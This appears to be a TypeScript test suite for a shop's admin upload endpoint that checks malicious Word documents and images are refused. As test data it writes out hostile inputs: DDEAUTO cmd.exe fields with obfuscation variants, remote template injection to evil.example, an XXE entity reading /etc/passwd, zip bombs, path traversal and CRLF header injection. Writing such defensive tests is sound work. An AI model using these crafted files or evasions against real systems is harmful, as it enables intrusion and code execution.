import v8 from 'node:v8';
import vm from 'node:vm';
import { crc32 } from 'node:zlib';
import type { AdminTemplate } from '@counterpart/contract/calls/library';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Customer } from '../../../../test/browser.ts';
import {
  addDocument,
  administrator,
  editOf,
  picture,
  prepare,
  type SentFile,
  typed,
  upload,
} from '../../../../test/library.ts';
import { json, openShop, type TestShop } from '../../../../test/shop.ts';
import { storedFiles } from '../../../../test/stored-files.ts';
import {
  contentTypes,
  mainType,
  oldWordFile,
  paragraphs,
  relationships,
  wordFile,
} from '../../../../test/word.ts';
import { packedZeros } from '../../../../test/zip.ts';

const external = 'The document loads something from elsewhere. Please save it without links to files';
const macros = 'The document contains macros. Please save it without them';
const objects = 'The document contains embedded objects. Please save it without them';
const damaged = 'The document is damaged and cannot be opened';
const unsafe = 'The document contains parts with unsafe names';
const locked = 'The document is protected by a password. Please save it without one';
const onlyWord = 'Please upload a .doc or .docx document';
const unpacked = 'The document unpacks to more than 200 MB';
const field = 'The document contains a field that loads something from elsewhere';

const documentTies = (...list: Parameters<typeof relationships>) =>
  wordFile({ 'word/_rels/document.xml.rels': relationships(...list) });
const named = (name: string) => wordFile({}, [{ name, content: 'x' }]);
const zeros = (megabytes: number, said = megabytes * 1024 * 1024) =>
  wordFile({}, [{ name: 'word/media/image1.png', packed: { bytes: packedZeros(megabytes), size: said } }]);

const doctype = (inner: string, text: string) =>
  paragraphs(text).replace('?>', `?><!DOCTYPE w:document [${inner}]>`);

const documents: [name: string, bytes: Buffer, sentence: string][] = [
  ['a gigabyte of zeros', zeros(1024), unpacked],
  ['150 MB of zeros in 150 kB', zeros(150), unpacked],
  ['a gigabyte that says it is a kilobyte', zeros(1024, 1024), damaged],
  [
    'one part packed a thousand times',
    wordFile(
      {},
      Array.from({ length: 1000 }, (_, index) => ({
        name: `word/media/${index}.png`,
        packed: { bytes: packedZeros(1), size: 1024 * 1024 },
      })),
    ),
    unpacked,
  ],
  [
    'thousands of parts',
    wordFile(
      {},
      Array.from({ length: 3000 }, (_, index) => ({ name: `word/media/${index}.png` })),
    ),
    'The document consists of more than 2000 parts',
  ],
  ['a path out of it', named('../../x.xml'), unsafe],
  ['a path out of a folder', named('word/../../x.xml'), unsafe],
  ['an absolute path', named('/etc/x.xml'), unsafe],
  ['a path of Windows', named('word\\..\\x.xml'), unsafe],
  ['a drive of Windows', named('c:x.xml'), unsafe],
  ['a line break in a name', named('word/a\r\nb.xml'), unsafe],
  ['two parts of one name', named('word/document.xml'), 'The document contains two parts with the same name'],
  [
    'two parts whose names differ by case',
    named('Word/Document.xml'),
    'The document contains two parts with the same name',
  ],
  [
    'an entity from a file',
    wordFile({
      'word/document.xml': doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
    }),
    'The document contains a document type declaration, which is not accepted',
  ],
  [
    'a billion laughs in a part nobody reads',
    wordFile({ 'customXml/item1.xml': doctype('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">', 'x') }),
    'The document contains a document type declaration, which is not accepted',
  ],
  ['XML without end', wordFile({ 'word/document.xml': '<a>'.repeat(2_000_000) }), damaged],
  ['XML that is none', wordFile({ 'word/document.xml': 'not <xml' }), damaged],
  [
    'an element of a million attributes',
    wordFile({
      'word/document.xml': `<a ${Array.from({ length: 500_000 }, (_, index) => `a${index}="x"`).join(' ')}/>`,
    }),
    damaged,
  ],
  [
    'a .docm that was renamed',
    wordFile({
      '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
      'word/vbaProject.bin': 'macro',
    }),
    macros,
  ],
  ['macros beside an honest type', wordFile({ 'word/vbaProject.bin': 'macro' }), macros],
  [
    'macros under another name',
    wordFile({
      '[Content_Types].xml': contentTypes(
        mainType,
        '<Override PartName="/word/image.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    }),
    macros,
  ],
  ['a tie to macros', documentTies(['vbaProject', 'media/image.bin']), macros],
  ['an ActiveX control', wordFile({ 'word/activeX/activeX1.xml': '<x/>' }), objects],
  ['an embedded program', wordFile({ 'word/embeddings/oleObject1.bin': 'MZ' }), objects],
  ['a linked object', documentTies(['oleObject', 'http://evil.example/x', 'External']), objects],
  [
    'a template elsewhere',
    wordFile({
      'word/_rels/settings.xml.rels': relationships([
        'attachedTemplate',
        'http://evil.example/macro.dotm',
        'External',
      ]),
    }),
    'The document is attached to a template elsewhere. Please detach it',
  ],
  ['a picture elsewhere', documentTies(['image', 'http://evil.example/pixel.png', 'External']), external],
  [
    'a picture elsewhere that says it is inside',
    documentTies(['image', 'http://evil.example/x.png']),
    external,
  ],
  ['a link to a share', documentTies(['hyperlink', '\\\\evil.example\\share', 'External']), external],
  ['a link that is a script', documentTies(['hyperlink', 'javascript:alert(1)', 'External']), external],
  ['a link to a file', documentTies(['hyperlink', 'file:///C:/secret.txt', 'External']), external],
  [
    'a field that starts a program',
    wordFile({
      'word/document.xml': paragraphs(
        '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>',
      ),
    }),
    field,
  ],
  [
    'a field that fetches a file',
    wordFile({
      'word/header1.xml': paragraphs(
        '</w:t></w:r><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example&quot; "/><w:r><w:t>',
      ),
    }),
    field,
  ],
  [
    'a template elsewhere behind an attribute of a stranger',
    wordFile({
      'word/_rels/settings.xml.rels': relationships([
        'attachedTemplate',
        'http://evil.example/macro.dotm" xmlns:x="urn:x" x:TargetMode="Internal',
        'External',
      ]),
    }),
    damaged,
  ],
  [
    'a type of macros behind an attribute of a stranger',
    wordFile({
      '[Content_Types].xml': contentTypes(
        mainType,
        '<Override xmlns:x="urn:x" PartName="/word/image.bin" x:ContentType="image/png" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    }),
    damaged,
  ],
  [
    'an instruction in CDATA',
    instructed('<w:instrText><![CDATA[ DDEAUTO c:\\cmd.exe ]]></w:instrText>'),
    field,
  ],
  [
    'an instruction around a comment',
    instructed('<w:instrText> DDE<!-- x -->AUTO c:\\cmd.exe </w:instrText>'),
    field,
  ],
  [
    'an instruction around CDATA',
    instructed('<w:instrText> D<![CDATA[DE]]>AUTO c:\\cmd.exe </w:instrText>'),
    field,
  ],
  [
    'an instruction after much space',
    instructed(
      `<w:instrText>${' '.repeat(1200)}</w:instrText></w:r><w:r><w:instrText>DDEAUTO c:\\cmd.exe </w:instrText>`,
    ),
    field,
  ],
  [
    'an instruction that a deletion hides',
    instructed('<w:delInstrText> DDEAUTO c:\\cmd.exe </w:delInstrText>'),
    field,
  ],
  [
    'a workbook',
    wordFile({
      '[Content_Types].xml': contentTypes(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
      ),
    }),
    onlyWord,
  ],
  ['a zip of something else', wordFile({ '[Content_Types].xml': undefined }), onlyWord],
  ['a document without its text', wordFile({ 'word/document.xml': undefined }), damaged],
  ['an encrypted zip', wordFile({}, [{ name: 'x.xml', isEncrypted: true }]), locked],
  ['a document with a password', oldWordFile(['EncryptedPackage', 'EncryptionInfo']), locked],
  ['a part that was altered', altered(), damaged],
  ['half a document', wordFile().subarray(0, 300), damaged],
  ['a web page', Buffer.from('<!doctype html><script>alert(1)</script>'), onlyWord],
  ['a PDF', Buffer.from('%PDF-1.7\n'), onlyWord],
  [
    'an old document under a new name',
    oldWordFile(),
    'The file is called .docx but is an old .doc document. Please rename it',
  ],
];

function instructed(inside: string): Buffer {
  const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
  return wordFile({
    'word/document.xml': paragraphs(
      `</w:t></w:r>${mark('begin')}<w:r>${inside}</w:r>${mark('end')}<w:r><w:t>`,
    ),
  });
}

function altered(): Buffer {
  const bytes = wordFile();
  bytes.writeUInt32LE(0, bytes.lastIndexOf('word/document.xml') - 46 + 16);
  return bytes;
}

function ring(): Buffer {
  const bytes = oldWordFile();
  bytes.writeUInt32LE(1, 512 + 4);
  return bytes;
}

const old = (parts: Parameters<typeof oldWordFile>[2]) => oldWordFile(undefined, 0, parts);
const elsewhere = 'The document is attached to a template elsewhere. Please detach it';

const oldDocuments: [name: string, bytes: Buffer, sentence: string][] = [
  ['a field that starts a program', old({ text: 'Text \u0013 DDEAUTO c:\\cmd.exe \u0015' }), field],
  ['the same in wide letters', old({ text: Buffer.from('\u0013  ddeauto c:\\cmd.exe', 'utf16le') }), field],
  [
    'the same in pieces',
    old({
      text: 'AUTO c:\\cmd.exe \u0013 DDE',
      pieces: [
        [16, 5],
        [0, 16],
      ],
    }),
    field,
  ],
  ['a template on the web', old({ template: 'http://evil.example/macro' }), elsewhere],
  ['a template on a share', old({ template: '\\\\evil.example\\share\\macro.dot' }), elsewhere],
  ['macros of Word 97', oldWordFile(['WordDocument', 'Macros', 'VBA']), macros],
  ['a password of Word 97', oldWordFile(['WordDocument'], 0x0100), locked],
  ['an old workbook', oldWordFile(['Workbook']), onlyWord],
  [
    'a new document under an old name',
    wordFile(),
    'The file is called .doc but is a .docx document. Please rename it',
  ],
  ['a directory in a ring', ring(), damaged],
  ['only a signature', oldWordFile().subarray(0, 600), damaged],
];

/** A picture that says how large it is, and no more. */
function hugePng(width: number, height: number): Buffer {
  const header = Buffer.alloc(33);
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').copy(header);
  header.writeUInt32BE(width, 16);
  header.writeUInt32BE(height, 20);
  Buffer.from('08020000', 'hex').copy(header, 24);
  const crc = crc32(header.subarray(12, 29));
  header.writeUInt32BE(crc, 29);
  return Buffer.concat([header, Buffer.from('0000000049444154', 'hex'), Buffer.from('35af061e', 'hex')]);
}

const noPicture =
  'This is not an image that can be read. Please upload a JPEG, PNG, WebP, GIF, AVIF or TIFF image';
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';

const pictures: [name: string, bytes: Buffer, sentence: string][] = [
  ['an SVG', Buffer.from(svg), noPicture],
  ['an SVG after a declaration', Buffer.from(`<?xml version="1.0"?>${svg}`), noPicture],
  ['a web page', Buffer.from('<html><script>alert(1)</script></html>'), noPicture],
  ['a PDF', Buffer.from('%PDF-1.7\n%âãÏÓ\n'), noPicture],
  ['a document', wordFile(), noPicture],
  [
    'a JPEG that says it is a PNG',
    await picture(60, 80, 'jpeg'),
    'The image is a JPEG, although its name says something else. Please rename it',
  ],
  [
    '40,000 × 40,000',
    hugePng(40_000, 40_000),
    'The image is too large: it may have at most 50 megapixels and 16,000 on a side',
  ],
  [
    'a strip of a million',
    hugePng(1_000_000, 1),
    'The image is too large: it may have at most 50 megapixels and 16,000 on a side',
  ],
  ['half a picture', (await picture(400, 400)).subarray(0, 200), 'The image is damaged and cannot be shown'],
  ['a head without a body', hugePng(400, 400), 'The image is damaged and cannot be shown'],
];

let shop: TestShop;
let admin: Customer;
let template: AdminTemplate;
let before: string[];
let memory: number;

const collect = () => {
  v8.setFlagsFromString('--expose-gc');
  vm.runInNewContext('gc')();
  return process.memoryUsage().rss;
};

beforeAll(async () => {
  shop = await openShop();
  admin = await administrator(shop);
  template = await addDocument(admin);
  before = await storedFiles(shop);
  memory = collect();
});
afterAll(() => shop.close());

/** Replaces a file of the template that is there. */
async function send(file: SentFile) {
  const path = await upload(admin, file);
  const named = file.kind === 'thumbnail' ? { thumbnail_path: path } : { document_path: path };
  return admin.put('/api/admin/template', { id: template._id, data: { ...editOf(template), ...named } });
}

describe('refused with a sentence, and gone', () => {
  test.each(documents)('a document: %s', async (_name, bytes, sentence) => {
    const answer = await send({ kind: 'document', bytes });
    expect(await json(answer)).toEqual({
      message: sentence,
      code: 'files/refused',
      errors: { document: sentence },
    });
    expect(answer.status).toBe(400);
    expect(await storedFiles(shop)).toEqual(before);
  });

  test.each(oldDocuments)('an old document: %s', async (_name, bytes, sentence) => {
    const file = { file_name: 'nda.doc', content_type: 'application/msword' };
    const answer = await send({ kind: 'document', bytes, ...file });
    expect((await json(answer)).errors).toEqual({ document: sentence });
    expect(await storedFiles(shop)).toEqual(before);
  });

  test.each(pictures)('a picture: %s', async (_name, bytes, sentence) => {
    const answer = await send({ kind: 'thumbnail', bytes });
    expect((await json(answer)).errors).toEqual({ image: sentence });
    expect(answer.status).toBe(400);
    expect(await storedFiles(shop)).toEqual(before);
  });

  test('both files at once, each with its own sentence', async () => {
    const thumbnail_path = await upload(admin, { kind: 'thumbnail', bytes: Buffer.from(svg) });
    const document_path = await upload(admin, { kind: 'document', bytes: Buffer.from('x') });
    const answer = await admin.post('/api/admin/templates', { ...typed, thumbnail_path, document_path });
    expect((await json(answer)).errors).toEqual({ image: noPicture, document: onlyWord });
    expect(await storedFiles(shop)).toEqual(before);
  });

  test.each([
    [
      { kind: 'thumbnail', file_name: 'a.svg', content_type: 'image/svg+xml' },
      'Please upload a JPEG, PNG, WebP, GIF, AVIF or TIFF image',
    ],
    [
      { kind: 'thumbnail', file_name: 'a.html', content_type: 'image/png' },
      'Please upload a JPEG, PNG, WebP, GIF, AVIF or TIFF image',
    ],
    [{ kind: 'document', file_name: 'a.docm' }, onlyWord],
    [{ kind: 'document', file_name: 'a.docx', content_type: 'text/html' }, onlyWord],
    [{ kind: 'document', name: 'a\r\nSet-Cookie: x=y' }, 'The file name must be a single line'],
    [{ kind: 'document', file_name: 'a\r\n.docx' }, 'The file name must be a single line'],
    [{ kind: 'document', name: 'x'.repeat(300) }, 'The file name must be at most 255 characters'],
    [{ kind: 'document', bytes: Buffer.alloc(0) }, 'The file is empty'],
    [{ kind: 'document', bytes: { length: 25 * 1024 * 1024 + 1 } }, 'The file is larger than 25 MB'],
    [{ kind: 'picture' }, 'kind must be thumbnail or document'],
  ])('before it is sent: %j', async (file, sentence) => {
    const answer = await prepare(admin, { bytes: Buffer.from('x'), ...file } as SentFile);
    expect([answer.status, (await json(answer)).message]).toEqual([400, sentence]);
  });

  test.each([
    ['a\r\nSet-Cookie: x=y', 'File name upon download must be a single line'],
    ['x'.repeat(300), 'File name upon download must be at most 150 characters'],
    ['../../etc/passwd', 'No forward slashes allowed'],
  ])('a name upon download: %j', async (file_name_upon_download, sentence) => {
    const answer = await admin.post('/api/admin/templates', {
      ...typed,
      file_name_upon_download,
      thumbnail_path: 'uploads/any',
      document_path: 'uploads/any',
    });
    expect([answer.status, (await json(answer)).message]).toEqual([400, sentence]);
  });

  test('all of them together took less than 50 MB', () => {
    expect((collect() - memory) / 1024 / 1024).toBeLessThan(50);
  });
});

describe('taken', () => {
  test.each([
    [
      'links for people',
      documentTies(
        ['hyperlink', 'https://counterpart.example', 'External'],
        ['hyperlink', 'mailto:a@b.c', 'External'],
      ),
    ],
    ['a table behind a chart', wordFile({ 'word/embeddings/sheet1.xlsx': 'PK' })],
    [
      'text in UTF-16',
      wordFile({
        'word/document.xml': Buffer.from(`\ufeff${paragraphs('x').replace('UTF-8', 'UTF-16')}`, 'utf16le'),
      }),
    ],
  ])('a document with %s', async (_name, bytes) => {
    expect((await send({ kind: 'document', bytes })).status).toBe(200);
    template = await json<AdminTemplate>(admin.get(`/api/admin/template?id=${template._id}`));
  });

  test('a document with a page number', async () => {
    const bytes = instructed('<w:instrText xml:space="preserve"> PAGE \\* MERGEFORMAT </w:instrText>');
    expect((await send({ kind: 'document', bytes })).status).toBe(200);
    template = await json<AdminTemplate>(admin.get(`/api/admin/template?id=${template._id}`));
  });

  test('an old document', async () => {
    const file = { file_name: 'nda.doc', content_type: 'application/msword' };
    const bytes = old({
      text: 'See \u0013 PAGE \u0015 and the link, please',
      pieces: [[0, 30]],
      template: 'C:\\Templates\\Normal.dot',
    });
    const answer = await send({ kind: 'document', bytes, ...file });
    const changed = await json<AdminTemplate>(answer);
    expect(changed.versions[0]?.document_path).toMatch(/mutual-nda\.doc(&|$)/);
  });
});
